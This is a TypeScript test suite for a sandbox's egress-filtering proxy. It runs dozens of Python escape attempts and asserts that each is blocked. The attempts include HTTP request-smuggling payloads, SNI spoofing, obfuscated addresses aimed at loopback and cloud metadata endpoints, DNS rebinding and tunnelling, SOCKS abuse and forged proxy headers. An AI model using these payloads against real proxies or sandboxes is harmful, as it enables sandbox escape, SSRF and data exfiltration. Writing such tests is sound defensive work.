import { EmbeddedHost } from "@bulkhead/host"
import { assert, layer } from "@effect/vitest"
import type { Sandbox } from "e2b"
import { Context, Effect, Layer } from "effect"
import * as EgressTargets from "./EgressTargets.js"
import { addresses, ports, target } from "./EgressTargets.js"
import { run, sandbox } from "./Fixtures.js"

const { inside, open } = addresses

/** What the names of these tests stand for; of more than one list, the next look-up gives the next. */
const names = {
  "good.example": [[open]],
  "ported.example": [[open]],
  "denied.example": [[open]],
  "other.example": [[open]],
  "a.wild.example": [[open]],
  "wild.example": [[open]],
  "inside.example": [[inside]],
  // What a CNAME to a name inside comes to.
  "alias.example": [[inside], [inside]],
  "rebind.example": [[open], [inside]],
  "mixed.example": [[inside, open]],
  "loop.example": [["127.0.0.1"]],
  "loop6.example": [["::1"]],
  "mapped.example": [["::ffff:127.0.0.1"]],
  "zero.example": [["0.0.0.0"]],
  "meta.example": [["169.254.169.254"]],
  "meta6.example": [["fd00:ec2::254"]],
  "translated.example": [["64:ff9b::7f00:1"]],
  "multicast.example": [["224.0.0.1"]]
}

const allowed = [
  ...["good.example", "ported.example:443", "denied.example", "*.wild.example", "inside.example"],
  ...["alias.example", "rebind.example", "mixed.example", "loop.example", "loop6.example", "mapped.example"],
  ...["zero.example", "meta.example", "meta6.example", "translated.example", "multicast.example"]
]
const everything = "0.0.0.0/0"

/** What escapes are written with: connections to the gate as they are, byte for byte. */
const tools = `
import socket, ssl, struct, sys
OPEN, INSIDE = "${open}", "${inside}"
def dial(host="127.0.0.1", port=3128):
    c = socket.create_connection((host, port), 5)
    c.settimeout(4)
    return c
def drain(c):
    got = b""
    try:
        while True:
            piece = c.recv(65536)
            if not piece: break
            got += piece
    except OSError: pass
    return got.decode("latin1")
def say(text, end=False):
    c = dial()
    c.sendall(text.encode("latin1") if isinstance(text, str) else text)
    if end: c.shutdown(socket.SHUT_WR)
    return drain(c)
def head(c):
    got = b""
    while b"\\r\\n\\r\\n" not in got:
        piece = c.recv(1)
        if not piece: break
        got += piece
    return got.decode("latin1")
def connect(authority, extra=""):
    c = dial()
    c.sendall(f"CONNECT {authority} HTTP/1.1\\r\\nHost: {authority}\\r\\n{extra}\\r\\n".encode("latin1"))
    return c, head(c)
def within(authority, text, extra=""):
    c, answer = connect(authority, extra)
    if " 200 " not in answer: return answer
    c.sendall(text.encode("latin1") if isinstance(text, str) else text)
    return answer + drain(c)
def tls(authority, name, path="/"):
    c, answer = connect(authority)
    if " 200 " not in answer: return answer
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    try: inner = context.wrap_socket(c, server_hostname=name)
    except (ssl.SSLError, OSError) as error: return answer + repr(error)
    inner.sendall(f"GET {path} HTTP/1.1\\r\\nHost: {name}\\r\\nConnection: close\\r\\n\\r\\n".encode())
    return answer + drain(inner)
def hello(name):
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    side = context.wrap_bio(incoming, outgoing, server_hostname=name)
    try: side.do_handshake()
    except ssl.SSLWantReadError: pass
    return outgoing.read()
def socks(kind, address, port, command=1, methods=b"\\x00"):
    c = dial()
    c.sendall(bytes([5, len(methods)]) + methods)
    chosen = c.recv(2)
    if chosen != b"\\x05\\x00": return c, list(chosen)
    c.sendall(bytes([5, command, 0, kind]) + address + struct.pack(">H", port))
    return c, list(c.recv(10))[:2]
def named(name, port, **more): return socks(3, bytes([len(name)]) + name.encode("latin1"), port, **more)
`

interface Escape {
  readonly name: string
  /** Python; MARK stands for what no server may hear. */
  readonly code: string
  /** What the program must read. */
  readonly reads: RegExp
}

const refused = /^HTTP\/1\.1 403 /
const malformed = /^HTTP\/1\.1 400 /

const get = (authority: string, host = authority) =>
  `print(say("GET http://${authority}/MARK HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\n"))`
const tunnel = (authority: string) => `print(within("${authority}", "MARK\\r\\n\\r\\n"))`

const otherNames: ReadonlyArray<Escape> = [
  { name: "plain HTTP to another name of an allowed address", code: get("other.example"), reads: refused },
  {
    name: "a tunnel to another name of an allowed address",
    code: tunnel("other.example:443"),
    reads: refused
  },
  {
    name: "SOCKS to another name of an allowed address",
    code: `print(named("other.example", 80)[1])`,
    reads: /^\[5, 2\]/
  },
  { name: "a name that is allowed and denied", code: tunnel("denied.example:443"), reads: refused },
  { name: "the parent of a wildcard", code: tunnel("wild.example:443"), reads: refused },
  { name: "a name that only ends like a wildcard's", code: tunnel("evilwild.example:443"), reads: refused },
  {
    name: "an allowed name as the parent of another",
    code: tunnel("good.example.other.example:443"),
    reads: refused
  },
  { name: "a port that is not the allowed one", code: tunnel("ported.example:80"), reads: refused },
  { name: "port 0", code: tunnel("good.example:0"), reads: malformed },
  { name: "a port above the last", code: tunnel("good.example:65616"), reads: malformed },
  { name: "no port", code: tunnel("good.example"), reads: malformed },
  { name: "a dot at the end of a name", code: tunnel("good.example.:443"), reads: malformed },
  {
    name: "a NUL in a name",
    code: `print(named("good.example\\0.other.example", 80)[1])`,
    reads: /^\[5, 2\]/
  },
  {
    name: "letters that look like an allowed name's",
    code: `print(named("g\\xf6od.example", 80)[1])`,
    reads: /^\[5, 2\]/
  }
]

const http: ReadonlyArray<Escape> = [
  { name: "plain HTTP with another Host", code: get("good.example", "MARK.other.example"), reads: malformed },
  {
    name: "plain HTTP with two Hosts",
    code: `print(say("GET http://good.example/MARK HTTP/1.1\\r\\nHost: good.example\\r\\nHost: other.example\\r\\n\\r\\n"))`,
    reads: malformed
  },
  { name: "an allowed name as the user of a URL", code: get("good.example@other.example"), reads: malformed },
  {
    name: "another name as the user of a URL",
    code: get("other.example@good.example", "good.example"),
    reads: malformed
  },
  {
    name: "a backslash in a URL",
    code: `print(say("GET http://good.example\\\\@other.example/MARK HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n"))`,
    reads: malformed
  },
  {
    name: "a second request with another Host on a connection that is kept",
    code: `print(say("GET http://good.example/first HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\nGET http://other.example/MARK HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n"))`,
    reads: /^HTTP\/1\.1 200 [\s\S]*heard good\.example\/first[\s\S]*HTTP\/1\.1 403 /
  },
  {
    name: "a length beside chunks (CL.TE)",
    code: `print(say("POST http://good.example/ HTTP/1.1\\r\\nHost: good.example\\r\\nContent-Length: 60\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /MARK HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n"))`,
    reads: malformed
  },
  {
    name: "chunks beside a length (TE.CL)",
    code: `print(say("POST http://good.example/ HTTP/1.1\\r\\nHost: good.example\\r\\nTransfer-Encoding: chunked\\r\\nContent-Length: 4\\r\\n\\r\\n2d\\r\\nGET /MARK HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n\\r\\n0\\r\\n\\r\\n"))`,
    reads: malformed
  },
  {
    name: "two lengths",
    code: `print(say("POST http://good.example/ HTTP/1.1\\r\\nHost: good.example\\r\\nContent-Length: 0\\r\\nContent-Length: 44\\r\\n\\r\\nGET /MARK HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n"))`,
    reads: malformed
  },
  {
    name: "an encoding that only some take for chunks",
    code: `print(say("POST http://good.example/ HTTP/1.1\\r\\nHost: good.example\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /MARK HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n"))`,
    reads: malformed
  },
  {
    name: "a blank before a header's colon",
    code: `print(say("POST http://good.example/ HTTP/1.1\\r\\nHost: good.example\\r\\nTransfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /MARK HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n"))`,
    reads: malformed
  },
  {
    name: "a header on two lines (obs-fold)",
    code: `print(say("GET http://good.example/MARK HTTP/1.1\\r\\nHost: good.example\\r\\n other.example\\r\\n\\r\\n"))`,
    reads: malformed
  },
  {
    name: "lines that end in CR alone",
    code: `print(say("GET http://good.example/ HTTP/1.1\\r\\nHost: good.example\\r\\nA: b\\rHost: MARK.other.example\\r\\n\\r\\n"))`,
    reads: malformed
  },
  {
    name: "a line's end within a URL",
    code: `print(say("GET http://good.example/\\rGET /MARK HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n"))`,
    reads: malformed
  },
  {
    name: "a chunk longer than it says",
    code: `print(say("POST http://good.example/ HTTP/1.1\\r\\nHost: good.example\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n1\\r\\naGET /MARK HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n"))`,
    reads: /HTTP\/1\.1 400 |^\s*$/
  },
  {
    name: "another scheme",
    code: `print(say("GET https://good.example/MARK HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n"))`,
    reads: malformed
  },
  {
    name: "the gate as a server",
    code: `print(say("GET /MARK HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n"))`,
    reads: malformed
  },
  {
    name: "a redirect to another name",
    code: `
import subprocess
print(subprocess.run(["curl", "-sL", "-o", "/dev/null", "-w", "HTTP/1.1 %{http_code} ", "http://good.example/redirect?" + "MARK"[::-1]], capture_output=True, text=True).stdout)`,
    reads: refused
  },
  {
    name: "HTTP with another Host in a tunnel",
    code: `print(within("good.example:80", "GET /MARK HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n"))`,
    reads: /HTTP\/1\.1 400 /
  },
  {
    name: "HTTP with another Host in a tunnel to an odd port",
    code: `print(within("good.example:${ports.odd}", "GET /MARK HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n"))`,
    reads: /HTTP\/1\.1 400 /
  },
  {
    name: "HTTP after empty lines in a tunnel",
    code: `print(within("good.example:${ports.odd}", "\\r\\n\\r\\n GET /MARK HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n"))`,
    reads: /HTTP\/1\.1 400 /
  },
  {
    name: "HTTP in a tunnel, byte by byte",
    code: `
import time
c, answer = connect("good.example:${ports.odd}")
for letter in "GET /MARK HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n":
    c.sendall(letter.encode())
    time.sleep(0.002)
print(answer + drain(c))`,
    reads: /HTTP\/1\.1 400 /
  },
  {
    name: "HTTP without a Host in a tunnel",
    code: `print(within("good.example:80", "GET /MARK HTTP/1.0\\r\\n\\r\\n"))`,
    reads: /HTTP\/1\.1 400 /
  },
  {
    name: "another server's URL in a tunnel",
    code: `print(within("good.example:80", "GET http://other.example/MARK HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n"))`,
    reads: /HTTP\/1\.1 400 /
  },
  {
    name: "a second request with another Host in a tunnel",
    code: `print(within("good.example:80", "GET /first HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\nGET /MARK HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n"))`,
    reads: /heard good\.example\/first[\s\S]*HTTP\/1\.1 400 /
  },
  {
    name: "a tunnel within a tunnel",
    code: `print(within("good.example:80", "CONNECT other.example:443 HTTP/1.1\\r\\nHost: other.example:443\\r\\n\\r\\nMARK"))`,
    reads: /HTTP\/1\.1 400 /
  },
  {
    name: "HTTP/2 in the clear",
    code: `print(within("good.example:${ports.odd}", "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\nMARK"))`,
    reads: /HTTP\/1\.1 400 /
  }
]

const tls: ReadonlyArray<Escape> = [
  {
    name: "TLS that asks for another name",
    code: `print(tls("good.example:443", "MARK.other.example"))`,
    reads: /UNRECOGNIZED_NAME/
  },
  {
    name: "TLS that asks for no name",
    code: `print(tls("good.example:443", None, "/MARK"))`,
    reads: /UNRECOGNIZED_NAME/
  },
  {
    name: "TLS that asks for another name on the port of HTTP",
    code: `print(tls("good.example:80", "MARK.other.example"))`,
    reads: /UNRECOGNIZED_NAME/
  },
  {
    name: "TLS that asks for another name on an odd port",
    code: `print(tls("good.example:${ports.odd}", "MARK.other.example"))`,
    reads: /UNRECOGNIZED_NAME/
  },
  {
    name: "a ClientHello in many records",
    code: `
message = hello("MARK.other.example")[5:]
pieces = [message[i:i + 7] for i in range(0, len(message), 7)]
print(within("good.example:443", b"".join(b"\\x16\\x03\\x01" + struct.pack(">H", len(p)) + p for p in pieces)))`,
    reads: / 200 [\s\S]*p\n$/
  },
  {
    name: "a ClientHello byte by byte",
    code: `
c, answer = connect("good.example:443")
for byte in hello("MARK.other.example"):
    try: c.sendall(bytes([byte]))
    except OSError: break
print(answer + drain(c))`,
    reads: / 200 [\s\S]*p\n$/
  },
  {
    name: "a ClientHello with another one behind it in one record",
    code: `
first, second = hello("good.example")[5:], hello("MARK.other.example")[5:]
both = first + second
print(within("good.example:443", b"\\x16\\x03\\x01" + struct.pack(">H", len(both)) + both))`,
    reads: / 200 /
  },
  {
    name: "no TLS on the port of HTTPS",
    code: `print(within("good.example:443", "MARK\\r\\n\\r\\n"))`,
    reads: / 200 [\s\S]*\r\n\r\n\n$/
  },
  {
    name: "HTTP on the port of HTTPS",
    code: `print(within("good.example:443", "GET /MARK HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n"))`,
    reads: / 200 [\s\S]*\r\n\r\n\n$/
  },
  {
    name: "another protocol on the port of HTTP",
    code: `print(within("good.example:80", "MARK\\r\\n\\r\\n"))`,
    reads: / 200 [\s\S]*\r\n\r\n\n$/
  },
  {
    name: "TLS with another name over SOCKS",
    code: `
c, answer = named("good.example", 443)
c.sendall(hello("MARK.other.example"))
print(answer, drain(c))`,
    reads: /^\[5, 0\] [\s\S]*p\n$/
  }
]

const number = open.split(".").reduce((sum, part) => sum * 256 + Number(part), 0)
const octal = open.split(".").map((part) => `0${Number(part).toString(8)}`)
const hex = open.split(".").map((part) => `0x${Number(part).toString(16)}`)

const spelled: ReadonlyArray<readonly [what: string, authority: string, reads: RegExp]> = [
  ["an address as it is", open, refused],
  ["an address as one number", String(number), malformed],
  ["an address as one number in hex", `0x${number.toString(16)}`, malformed],
  ["an address as one number in octal", `0${number.toString(8)}`, malformed],
  ["an address in octal", octal.join("."), malformed],
  ["an address in hex", hex.join("."), malformed],
  [
    "an address in three parts",
    open.replace(/\.(\d+)\.(\d+)$/, (_, a, b) => `.${a * 256 + Number(b)}`),
    malformed
  ],
  ["a short address", "127.1", malformed],
  ["an address with a dot at its end", `${open}.`, malformed],
  ["an address with zeros before its numbers", open.replace(/\.1$/, ".001"), malformed],
  ["a mapped address", `[::ffff:${open}]`, malformed],
  ["a mapped address in hex", "[::ffff:7f00:1]", malformed],
  ["a long address of IPv6", "[0:0:0:0:0:0:0:1]", malformed],
  ["an address with a zone", "[fe80::1%25lo]", malformed],
  ["the loopback of IPv6", "[::1]", refused],
  ["no address at all", "0.0.0.0", refused],
  ["no address at all of IPv6", "[::]", refused],
  ["a cloud's metadata", "169.254.169.254", refused],
  ["a cloud's metadata, short", "169.254.43518", malformed],
  ["another cloud's metadata", "100.100.100.200", refused]
]

const rawAddresses: ReadonlyArray<Escape> = [
  ...spelled.flatMap(([what, host, reads]) => [
    { name: `a tunnel to ${what}`, code: tunnel(`${host}:80`), reads },
    { name: `plain HTTP to ${what}`, code: get(host), reads }
  ]),
  { name: "SOCKS to an address", code: `print(socks(1, socket.inet_aton(OPEN), 80)[1])`, reads: /^\[5, 2\]/ },
  { name: "SOCKS to an address as a name", code: `print(named(OPEN, 80)[1])`, reads: /^\[5, 2\]/ },
  {
    name: "SOCKS to a mapped address",
    code: `print(socks(4, socket.inet_pton(socket.AF_INET6, "::ffff:" + OPEN), 80)[1])`,
    reads: /^\[5, 2\]/
  }
]

const insideNames = [
  ...["inside", "alias", "loop", "loop6", "mapped", "zero", "meta", "meta6", "translated", "multicast"]
].map(
  (name): Escape => ({
    name: `an allowed name that stands for an address inside (${name})`,
    code: tunnel(`${name}.example:80`),
    reads: refused
  })
)

const others: ReadonlyArray<Escape> = [
  {
    name: "a name that stands for another address the second time",
    code: `
print(say("GET http://rebind.example/first HTTP/1.1\\r\\nHost: rebind.example\\r\\nConnection: close\\r\\n\\r\\n"))
print(say("GET http://rebind.example/MARK HTTP/1.1\\r\\nHost: rebind.example\\r\\n\\r\\n"))`,
    reads: /heard rebind\.example\/first[\s\S]*HTTP\/1\.1 403 /
  },
  {
    name: "words in a name that is not allowed (a tunnel through DNS)",
    code: tunnel("MARK.secret.other.example:443"),
    reads: refused
  },
  {
    name: "DNS over UDP",
    code: `
try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"MARK", ("8.8.8.8", 53))
except OSError as error: print(error)`,
    reads: /unreachable/
  },
  {
    name: "DNS by the C library",
    code: `
try: print(socket.getaddrinfo("good.example", 80))
except OSError as error: print(error)`,
    reads: /(resolution|not known)/
  },
  {
    name: "DNS over TCP through the gate",
    code: tunnel("8.8.8.8:53"),
    reads: refused
  },
  {
    name: "a server of names in the sandbox's files",
    code: `
try: print("nameserver" in open("/etc/resolv.conf").read())
except OSError as error: print(error)`,
    reads: /No such file/
  },
  {
    name: "ICMP",
    code: `
for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
    try: socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP).sendto(b"MARK", (OPEN, 0))
    except OSError as error: print(error)`,
    reads: /(not permitted|not supported)[\s\S]*(not permitted|not supported|denied)/
  },
  {
    name: "QUIC",
    code: `
try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"\\xc0MARK", ("1.1.1.1", 443))
except OSError as error: print(error)`,
    reads: /unreachable/
  },
  {
    name: "UDP to an address that is the sandbox's own too",
    code: `print(socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"MARK", (OPEN, 443)))`,
    reads: /^\d+/
  },
  {
    name: "IPv6",
    code: `
try: socket.create_connection(("2606:4700::1111", 443), 3)
except OSError as error: print(error)`,
    reads: /(unreachable|assign)/
  },
  {
    name: "a connection past the gate",
    code: `
for where in (("1.1.1.1", 443), (OPEN, 80), (INSIDE, 80)):
    try: socket.create_connection(where, 3).sendall(b"MARK")
    except OSError as error: print(error)`,
    reads: /unreachable\n[\s\S]*refused\n[\s\S]*refused/
  },
  { name: "the proxy of the host's own side", code: tunnel("loop.example:3128"), reads: refused },
  {
    name: "sockets of the host's",
    code: `
import os
print(os.path.exists("/run/bulkhead-host"), os.listdir("/run"))
names = [line.split()[-1] for line in open("/proc/net/unix") if "gate" in line or "agents" in line]
print(names)
for path in ("/gate", "gate", "/run/bulkhead-host/gate"):
    try: socket.socket(socket.AF_UNIX).connect(path)
    except OSError as error: print(error)`,
    reads: /^False \[\]\n\[\]\nNo such file|^False \[\]\n\[\]\n\[Errno 2\]/
  },
  {
    name: "SOCKS with UDP",
    code: `print(socks(1, socket.inet_aton(OPEN), 80, command=3)[1])`,
    reads: /^\[5, 7\]/
  },
  {
    name: "SOCKS that listens",
    code: `print(socks(1, socket.inet_aton(OPEN), 80, command=2)[1])`,
    reads: /^\[5, 7\]/
  },
  {
    name: "SOCKS with a password",
    code: `print(named("good.example", 80, methods=b"\\x02")[1])`,
    reads: /^\[5, 255\]/
  },
  {
    name: "SOCKS 4",
    code: `print(repr(say(b"\\x04\\x01\\x00\\x50" + socket.inet_aton(OPEN) + b"MARK\\x00")))`,
    reads: /^'(HTTP\/1\.1 400|')/
  },
  {
    name: "what a program says of itself",
    code: `print(connect("other.example:443", "Proxy-Authorization: Basic YWRtaW46YWRtaW4=\\r\\nX-Forwarded-For: 127.0.0.1\\r\\nForwarded: for=127.0.0.1\\r\\n")[1])`,
    reads: refused
  },
  {
    name: "garbage",
    code: `
import os
for _ in range(20): say(os.urandom(200) + b"MARK", True)
print("done")`,
    reads: /^done/
  }
]

const escapes = [...otherNames, ...http, ...tls, ...rawAddresses, ...insideNames, ...others]

class Machine extends Context.Tag("Machine")<Machine, { readonly heard: EgressTargets.Heard }>() {}

const machine = Layer.unwrapScoped(
  Effect.map(EgressTargets.make, (heard) =>
    Layer.merge(
      Layer.succeed(Machine, { heard }),
      EmbeddedHost.layer({
        network: {
          private: [target(open)],
          names: EgressTargets.resolver(heard, names),
          maxAttempts: 100_000
        }
      })
    )
  )
)

const filtered = sandbox({ network: { allowOut: allowed, denyOut: [everything, "denied.example"] } })

const withTools = Effect.tap(filtered, (here) =>
  Effect.promise(() => here.files.write("/home/user/tools.py", tools))
)

/** Makes all attempts side by side, and says what each has read. */
const runner = `
import concurrent.futures, json, traceback
import tools
def attempt(code):
    said = []
    scope = dict(vars(tools), print=lambda *words: said.append(" ".join(map(str, words)) + "\\n"))
    try: exec(code, scope)
    except Exception: said.append(traceback.format_exc())
    return "".join(said)
with concurrent.futures.ThreadPoolExecutor(16) as pool:
    print(json.dumps(list(pool.map(attempt, json.load(open("/home/user/codes.json"))))))`

const markOf = (index: number) => `m${index}x${process.pid}`

const attempt = (here: Sandbox, code: string) =>
  run(here, `python3 - <<'END'\nfrom tools import *\n${code}\nEND`)

layer(machine, { excludeTestServices: true, timeout: 60_000 })("A sandbox with a network", (it) => {
  it.scoped("reaches what is allowed", () =>
    Effect.gen(function* () {
      const { heard } = yield* Machine
      const here = yield* withTools
      const { stdout } = yield* attempt(
        here,
        `
print(say("GET http://good.example/one HTTP/1.1\\r\\nHost: good.example\\r\\nProxy-Authorization: x\\r\\nX-Mine: y\\r\\nX-Hop: z\\r\\nConnection: X-Hop, close\\r\\n\\r\\n"))
print(within("GOOD.example:80", "GET /two HTTP/1.1\\r\\nHost: good.example\\r\\nConnection: close\\r\\n\\r\\n"))
print(tls("good.example:443", "good.example", "/three"))
print(tls("a.wild.example:443", "a.wild.example", "/four"))
c, answer = named("good.example", 443)
c.sendall(hello("good.example"))
print(answer, len(c.recv(65536)) > 100)
c, answer = connect("good.example:${ports.first}")
print(c.recv(100))
print(say("GET http://mixed.example/five HTTP/1.1\\r\\nHost: mixed.example\\r\\nConnection: close\\r\\n\\r\\n"))`
      )
      for (const path of ["/one", "/two", "/three"]) assert.include(stdout, `heard good.example${path}`)
      assert.include(stdout, "heard a.wild.example/four")
      assert.include(stdout, "heard mixed.example/five")
      assert.include(stdout, "[5, 0] True")
      assert.include(stdout, "220 ready")
      const first = heard.requests.find(({ url }) => url === "/one")?.headers
      assert.deepInclude(first, { "x-mine": "y" })
      assert.notProperty(first, "x-hop")
      assert.notProperty(first, "proxy-authorization")
      assert.strictEqual(heard.connections.inside, 0)
      // What the escapes below are looked for in.
      for (const sent of ["GET /one ", "GET /two ", "\0good.example"])
        assert.isTrue(
          heard.bytes.some((bytes) => bytes.includes(sent)),
          sent
        )
    })
  )

  it.scoped(`does not get out by any of ${escapes.length} escapes`, () =>
    Effect.gen(function* () {
      const { heard } = yield* Machine
      const here = yield* withTools
      const names = escapes.map(({ name }) => name)
      assert.strictEqual(new Set(names).size, names.length)
      const codes = escapes.map(({ code }, index) => code.replaceAll("MARK", markOf(index)))
      yield* Effect.promise(() => here.files.write("/home/user/codes.json", JSON.stringify(codes)))
      const { stderr, stdout } = yield* run(here, `python3 - <<'END'\n${runner}\nEND`)
      assert.strictEqual(stderr, "")
      const read: ReadonlyArray<string> = JSON.parse(stdout)
      const all = JSON.stringify(heard)
      const wrong = escapes.map(({ name, reads }, index) => {
        if (all.includes(markOf(index))) return [`${name}: it was heard`]
        return reads.test(read[index] ?? "") ? [] : [`${name}: the program read ${read[index]}`]
      })
      assert.strictEqual(heard.connections.inside, 0)
      assert.deepStrictEqual(wrong.flat(), [])
      assert.isFalse(heard.lookups.some((name) => name.endsWith("secret.other.example")))
    })
  )
})
